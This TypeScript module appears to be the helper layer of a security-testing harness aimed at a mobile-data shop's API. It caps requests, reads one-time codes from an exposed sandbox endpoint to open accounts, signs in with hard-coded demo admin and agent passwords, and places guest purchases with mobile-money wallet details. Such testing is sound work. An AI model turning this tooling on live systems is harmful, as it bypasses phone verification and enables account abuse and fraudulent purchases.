/** The address under attack: calls with a limit on their number, and facts found out from outside. */
import { randomBytes, randomInt, randomUUID } from 'node:crypto';

/** Enough for every probe, and no flood. */
const mostRequests = 1_600;
const requestTimeoutMs = 15_000;
const api = '/api/v1';

type Json = { [name: string]: Json } & Json[] & string;

export type Answer = { status: number; text: string; headers: Headers; json: Json | undefined };

export type CallOptions = {
  body?: unknown;
  /** Sent as it is, instead of a body in JSON. */
  raw?: string;
  token?: string;
  headers?: Record<string, string>;
};

/** What the shop sells first. */
export type Offer = { id: string; serviceId: string; price: number };

/** Somebody of the demo, whose password everybody knows. */
export const demo = { admin: '0200000000', agent: '0240000001', password: 'demo1234' };

export type Account = { phone: string; password: string; accessToken: string; refreshToken: string };

export type Target = ReturnType<typeof aimAt>;

export function aimAt(address: string) {
  const origin = new URL(address).origin;
  const answers: { what: string; answer: Answer }[] = [];

  /** A path of the API, or with two slashes in front any other. */
  async function call(method: string, path: string, options: CallOptions = {}): Promise<Answer> {
    if (answers.length >= mostRequests) throw new Error(`More than ${mostRequests} requests.`);
    const { body, raw, token, headers } = options;
    const payload = raw ?? (body === undefined ? undefined : JSON.stringify(body));
    const response = await fetch(origin + (path.startsWith('//') ? path.slice(1) : api + path), {
      method,
      redirect: 'manual',
      signal: AbortSignal.timeout(requestTimeoutMs),
      headers: {
        ...(body !== undefined && { 'content-type': 'application/json' }),
        ...(token && { authorization: `Bearer ${token}` }),
        'x-device-id': randomBytes(12).toString('hex'),
        ...headers,
      },
      ...(payload !== undefined && { body: payload }),
    });
    const text = await response.text();
    const answer = { status: response.status, text, headers: response.headers, json: parse(text) };
    answers.push({ what: `${method} ${path}`, answer });
    return answer;
  }

  /** The page shows whether the sandbox simulates its vendors: then anybody can read codes. */
  async function isSandbox(): Promise<boolean> {
    const { text } = await call('GET', '//auth', { headers: { accept: 'text/html' } });
    return /"sandbox":true/.test(text);
  }

  async function codeOf(phone: string): Promise<string> {
    const { json } = await call('GET', `/sandbox/messages?phone=${phone}`);
    const messages = (json?.data ?? []) as Json[];
    return String(messages.find(({ code }) => code)?.code ?? '');
  }

  function register(phone: string, more: Record<string, unknown> = {}): Promise<Answer> {
    const body = { name: 'Attacker', phone_number: phone, password: 'a-long-password', ...more };
    return call('POST', '/auth/register', { body, headers: { 'idempotency-key': randomUUID() } });
  }

  /** Somebody with an account, where the sandbox shows the code. */
  async function openAccount(more: Record<string, unknown> = {}): Promise<Account> {
    const phone = anyPhone();
    const registered = await register(phone, more);
    const requestId = registered.json?.data?.otp?.data?.otp?.requestId;
    const body = { phone_number: phone, requestId, code: await codeOf(phone) };
    const { json, text } = await call('POST', '/auth/verify-otp', { body });
    if (!json?.data?.accessToken) throw new Error(`No account could be opened: ${text.slice(0, 200)}`);
    const { accessToken, refreshToken } = json.data;
    return {
      phone,
      password: 'a-long-password',
      accessToken: String(accessToken),
      refreshToken: String(refreshToken),
    };
  }

  return { origin, call, answers, isSandbox, codeOf, register, openAccount };
}

export function signIn(target: Target, who: 'admin' | 'agent'): Promise<Answer> {
  const body = { phone_number: demo[who], password: demo.password };
  return target.call('POST', '/auth/login', { body });
}

export async function findOffer(target: Target): Promise<Offer | undefined> {
  const { json } = await target.call('GET', '/databundle-open/services');
  const service = Object.values(json?.data?.services ?? {}).find(({ packages }) => packages?.[0]);
  const offer = service?.packages?.[0];
  return offer && { id: String(offer.id), serviceId: String(service?.id), price: Number(offer.final_price) };
}

/** A guest buys for their own number, unless `more` says otherwise. */
export function buy(
  target: Target,
  { id, serviceId }: Offer,
  { device, ...more }: Record<string, unknown> & { device?: string } = {},
): Promise<Answer> {
  const phone = anyPhone();
  const wallet = { destination: phone, phoneNumber: phone, network: 'MTN', type: 'momo' };
  const headers = { 'idempotency-key': randomUUID(), ...(device && { 'x-device-id': device }) };
  const body = { package_id: id, service_id: serviceId, ...wallet, ...more };
  return target.call('POST', '/databundle-open/buy', { body, headers });
}

export const tokenIn = ({ json }: Answer) => String(json?.data?.accessToken ?? '');

/** Of MTN, and with an ending that means nothing to the sandbox. */
export function anyPhone(): string {
  return `024${randomInt(100, 1_000)}${randomInt(1_000, 9_000)}`;
}

function parse(text: string): Json | undefined {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}
